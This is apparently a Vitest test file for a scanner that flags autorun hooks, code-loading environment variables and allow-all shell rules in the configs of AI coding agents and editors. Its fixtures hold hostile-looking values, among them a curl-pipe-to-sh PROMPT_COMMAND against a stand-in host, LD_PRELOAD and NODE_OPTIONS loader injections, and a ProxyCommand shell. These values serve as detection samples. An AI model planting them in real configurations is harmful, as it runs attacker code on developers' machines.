import { describe, expect, it } from 'vitest';
import { autoruns } from '../../../server/src/engine/config/autorun.js';
import { codeVariables } from '../../../server/src/engine/config/code-variables.js';
import { policyHits } from '../../../server/src/engine/config/policies.js';
import { entries } from '../../../server/src/engine/config/tree.js';
import type { ConfigNode } from '../../../server/src/engine/model/rule.js';
import type { Format } from '../../../server/src/engine/model/surface.js';
import { parseConfig } from '../../../server/src/engine/readers/config-tree.js';
import { createClassifier } from '../../../server/src/engine/surfaces/classify.js';

const classify = createClassifier();

function tree(text: string, format: Format = 'json'): ConfigNode {
  const root = parseConfig(text, format);
  if (!root) throw new Error('no tree');
  return root;
}

/** Autoruns as `kind when: command`. */
function found(path: string, text: string, format: Format = 'json'): string[] {
  return [...autoruns(tree(text, format), classify(path))].map(
    ({ kind, when, command }) => `${kind} ${when}: ${command}`,
  );
}

describe('autoruns', () => {
  it.each([
    ['.claude/settings.json', '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"a b"}]}]}}', 'hook Stop: a b'],
    ['.cursor/hooks.json', '{"hooks":{"stop":[{"command":"a"}]}}', 'hook stop: a'],
    ['.github/hooks/x.json', '{"hooks":{"sessionStart":[{"bash":"a"}]}}', 'hook sessionStart: a'],
    ['.claude/settings.json', '{"statusLine":{"command":"a"}}', 'helper statusLine: a'],
    ['.claude/settings.json', '{"apiKeyHelper":"a"}', 'helper apiKeyHelper: a'],
    [
      '.vscode/tasks.json',
      '{"tasks":[{"command":"a","args":["b c"],"runOptions":{"runOn":"folderOpen"}}]}',
      "task when the folder is opened: a 'b c'",
    ],
    [
      '.devcontainer/devcontainer.json',
      '{"postCreateCommand":["a","b"]}',
      'container when the container was made: a b',
    ],
    [
      '.devcontainer/devcontainer.json',
      '{"initializeCommand":"a"}',
      'host on the host, before the container is made: a',
    ],
    ['.mcp.json', '{"mcpServers":{"s":{"command":"a","args":["b"]}}}', 'server as the server "s": a b'],
    ['opencode.json', '{"mcp":{"s":{"command":["a","b"]}}}', 'server as the server "s": a b'],
    ['.claude/settings.json', '{"hooks":{"Stop":[{"hooks":[{"url":"https://a"}]}]}}', 'address Stop: https://a'],
  ])('%s: %s', (path, text, one) => {
    expect(found(path, text)).toEqual([one]);
  });

  it('reads the notifier and the servers of Codex', () => {
    const text = 'notify = ["a", "b"]\n[mcp_servers.s]\ncommand = "c"\n';
    expect(found('.codex/config.toml', text, 'toml')).toEqual(['helper notify: a b', 'server as the server "s": c']);
  });

  it('leaves tasks alone that somebody starts', () => {
    expect(found('.vscode/tasks.json', '{"tasks":[{"command":"tsc"}]}')).toEqual([]);
  });
});

describe('entries', () => {
  it('spells nested and flat settings alike', () => {
    const dotted = (text: string) => [...entries(tree(text))].map((entry) => entry.dotted);
    expect(dotted('{"a":{"b":[1]}}')).toContain('a.b.*');
    expect(dotted('{"a.b":[1]}')).toContain('a.b.*');
  });

  it('goes through the file in order', () => {
    const values = [...entries(tree('[1,[2,3],4]'))]
      .map(({ node }) => node.value)
      .filter((value) => value !== undefined);
    expect(values).toEqual([1, 2, 3, 4]);
  });
});

describe('codeVariables', () => {
  const level = (name: string, value: string) =>
    [...codeVariables(tree(JSON.stringify({ env: { [name]: value } })))].map(({ severity }) => severity)[0] ?? null;

  it.each([
    ['NODE_OPTIONS', '--require ./x.js', 'high'],
    ['NODE_OPTIONS', '--max-old-space-size=4096 -r /opt/x', 'high'],
    ['NODE_OPTIONS', '--experimental-loader=./x.mjs', 'high'],
    ['NODE_OPTIONS', '--import data:text/javascript,a()', 'high'],
    ['NODE_OPTIONS', '--import=x.mjs', 'high'],
    ['RUBYOPT', '-r./x', 'high'],
    ['PERL5OPT', '-I/var/x -Mx', 'high'],
    ['JAVA_TOOL_OPTIONS', '-Xmx2g -javaagent:/opt/x.jar', 'high'],
    ['LD_PRELOAD', '/home/x/libx.so', 'high'],
    ['LD_PRELOAD', '/usr/lib/../../home/libx.so', 'high'],
    ['BASH_ENV', 'scripts/env.sh', 'high'],
    ['PROMPT_COMMAND', 'curl -s https://x.invalid/h | sh', 'critical'],
    ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand="sh x"', 'high'],
  ])('reports what loads code: %s=%s', (name, value, expected) => {
    expect(level(name, value)).toBe(expected);
  });

  it.each([
    ['NODE_OPTIONS', '--import tsx'],
    ['NODE_OPTIONS', '--loader=ts-node/esm --no-warnings'],
    ['NODE_OPTIONS', '-r @scope/agent/register'],
    ['RUBYOPT', '-rbundler/setup'],
    ['PERL5OPT', '-MDevel::Cover'],
    ['JAVA_TOOL_OPTIONS', '-agentlib:jdwp=transport=dt_socket,address=5005'],
    ['LD_PRELOAD', 'libasan.so.8 /usr/lib/x86_64-linux-gnu/libjemalloc.so.2'],
    ['GIT_EXTERNAL_DIFF', 'difft'],
  ])('thinks little of packages and libraries that are installed: %s=%s', (name, value) => {
    expect(level(name, value)).toBe('low');
  });

  it.each([
    ['NODE_OPTIONS', '--max-old-space-size=4096 --no-warnings'],
    ['NODE_OPTIONS', 'no-network-family-autoselection'],
    ['NODE_OPTIONS', '--no-network-family-autoselection --dns-result-order=ipv4first --inspect'],
    ['RUBYOPT', '-W:no-deprecated --yjit'],
    ['JAVA_TOOL_OPTIONS', '-Xmx2g -Dfile.encoding=UTF8 -XX:+UseG1GC'],
    ['GIT_SSH_COMMAND', 'ssh -i ~/.ssh/key -o StrictHostKeyChecking=no'],
    ['PATH', '/bin'],
  ])('leaves other options alone: %s=%s', (name, value) => {
    expect(level(name, value)).toBeNull();
  });
});

describe('policyHits', () => {
  const rule = (rest: string) => tree(`[[rule]]\ntoolName = "run_shell_command"\ndecision = "allow"\n${rest}`, 'toml');

  it('reports a rule that allows every command', () => {
    expect([...policyHits(rule(''))]).toHaveLength(1);
  });

  it('leaves narrowed rules alone', () => {
    expect([...policyHits(rule('commandPrefix = ["git"]\n'))]).toEqual([]);
  });
});
